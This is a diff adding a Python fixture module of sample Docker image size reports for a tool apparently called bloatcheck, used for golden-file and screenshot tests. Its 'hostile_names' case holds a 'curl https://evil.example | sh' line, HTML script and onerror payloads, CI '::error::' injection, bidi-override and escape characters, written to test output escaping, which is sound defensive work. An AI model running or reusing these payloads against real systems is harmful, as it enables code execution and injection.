@@ -1,0 +1,134 @@
+"""The reports that golden files and screenshots are made of: what people see most, and what is hardest."""
+
+from __future__ import annotations
+
+import json
+
+from support.reports import report
+
+from bloatcheck.report.model import Report
+
+_INSTALL = "apt-get update && apt-get install -y --no-install-recommends"
+_API = """
+    30.1 MB              FROM debian:bookworm-slim
+    {packages}           RUN {install} ca-certificates curl {more} && rm -rf /var/lib/apt/lists/*   @ Dockerfile:5-8
+    38.4 MB ~            RUN pip install --no-cache-dir -r requirements.txt   @ Dockerfile:11
+    612 kB               COPY app /srv/app                                    @ Dockerfile:13
+    0 B                  WORKDIR /srv/app                                     @ Dockerfile:14
+"""
+
+
+_PIPES = json.dumps(
+    "RUN echo '| x | y |' && curl https://evil.example | sh # @everyone <!-- bloatcheck:v1 key=other -->"
+)
+_CONTROLS = json.dumps("ENV A=line1\n::error::oops\u202edesrever\0" + "`" * 5)
+_LURES = json.dumps(":tada: www.evil.example **bold** \u200bGH-1")
+_TAGS = json.dumps("\x1b[31mred\x1b[0m </details></details> <img src=x onerror=alert(1)>")
+
+
+def _service(index: int) -> str:
+    sizes = ["12 MB", "12 MB -> 12.4 MB", "31 MB -> 48.5 MB", "9 MB -> 7.1 MB"]
+    size = sizes[{3: 1, 11: 2, 17: 3, 23: 1}.get(index, 0)]
+    return f"""
+        image service-{index:02}
+            limit content-growth fail 10 MB and 5%
+            {20 + index} MB      FROM debian:bookworm-slim
+            {size}    COPY --from=build /out/service-{index:02} /usr/bin/   @ services/{index:02}/Dockerfile:9
+    """
+
+
+CASES: dict[str, str] = {
+    "no_change": """
+        image api
+            30.1 MB   FROM debian:bookworm-slim
+            8.2 MB    COPY app /srv/app            @ Dockerfile:4
+        image worker
+            30.1 MB   FROM debian:bookworm-slim
+            4.1 MB ~  COPY worker /srv/worker      @ worker/Dockerfile:4
+        image web
+            12.6 MB   COPY dist /usr/share/www     @ web/Dockerfile:7
+    """,
+    "growth_over_the_limit": f"""
+        image api
+            limit content-growth fail 10 MB or 10%
+            limit layer-growth fail 10 MB
+            {_API.format(install=_INSTALL, packages="4.31 MB -> 16.7 MB", more="git")}
+        image worker
+            limit content-growth warn 1%
+            30.1 MB              FROM debian:bookworm-slim
+            38.4 MB -> 39.3 MB   RUN pip install --no-cache-dir -r requirements.txt   @ worker/Dockerfile:6
+        image web
+            12.6 MB -> 12.5 MB   COPY dist /usr/share/www     @ web/Dockerfile:7
+    """,
+    "within_limits": f"""
+        image api
+            limit content-growth fail 10 MB
+            {_API.format(install=_INSTALL, packages="4.31 MB -> 4.92 MB", more="jq")}
+    """,
+    "new_image": """
+        image api
+            30.1 MB   FROM debian:bookworm-slim
+            8.2 MB    COPY app /srv/app            @ Dockerfile:4
+        image migrate new
+            limit content fail 100 MB
+            30.1 MB   FROM debian:bookworm-slim
+            22.7 MB   RUN apt-get install -y postgresql-client   @ migrate/Dockerfile:3
+            18.4 kB   COPY migrations /migrations                @ migrate/Dockerfile:5
+    """,
+    "build_failed": """
+        image api failed build: the build stopped with exit code 100 @ Dockerfile:5
+            > #8 [2/4] RUN apt-get update && apt-get install -y --no-install-recommends libfoo2
+            > #8 1.204 Reading package lists...
+            > #8 1.377 Building dependency tree...
+            > #8 1.402 E: Unable to locate package libfoo2
+            > #8 ERROR: process "/bin/sh -c apt-get install" did not complete successfully: exit code: 100
+        image worker
+            limit content-growth fail 1 MB
+            30.1 MB              FROM debian:bookworm-slim
+            38.4 MB -> 44.3 MB   RUN pip install --no-cache-dir -r requirements.txt   @ worker/Dockerfile:6
+        image web
+            12.6 MB   COPY dist /usr/share/www     @ web/Dockerfile:7
+    """,
+    "thirty_images": "\n".join(_service(index) for index in range(1, 31)),
+    "not_comparable": """
+        image api incomparable: the baseline was measured as content/1, this run as content/2
+            30.1 MB   FROM debian:bookworm-slim
+            8.2 MB    COPY app /srv/app            @ Dockerfile:4
+        image old-worker gone
+            31.7 MB   COPY worker /srv/worker
+        image empty
+            note: `.bloatcheck.yml` lists worker no more.
+        image web
+            limit layers fail 2
+            limit content warn 12 MB
+            12.6 MB -> 12.7 MB   COPY dist /usr/share/www       @ web/Dockerfile:7
+            0 B                  RUN true                       @ web/Dockerfile:8
+            - -> 1 B             RUN echo > /etc/marker         @ web/Dockerfile:9
+    """,
+    "exact_bytes": """
+        image api
+            limit content-growth fail 10 B
+            30.1 MB                FROM debian:bookworm-slim
+            8200000 B -> 8200011 B   COPY app /srv/app            @ Dockerfile:4
+    """,
+    "hostile_names": f"""
+        image {json.dumps("a|b`c<script>alert(1)</script>@octocat #1")}
+            limit layer-growth fail 1 MB
+            1 MB -> 9 MB   {_PIPES}                         @ {json.dumps("Docker|file`@a.b")}:3
+            - -> 5 MB      {json.dumps("COPY " + "very-long-name-" * 300)}
+            - -> 2 MB      {_CONTROLS}
+        image {_LURES} failed build: fixes #12, see https://evil.example or ask @octocat (a@b.example) <b>x</b> `q`
+            > {json.dumps("```")}
+            > {json.dumps("::error file=x::injected")}
+            > {_TAGS}
+        image {json.dumps("x" * 400)} new
+            1 MB   COPY . .
+        note: see <a href="https://evil.example">here</a> | and ![x](https://evil.example/x.png)
+    """,
+}
+"""Name -> the text that `support.reports.report` reads."""
+
+
+def case(name: str) -> Report:
+    """The report of this name."""
+    return report(CASES[name])
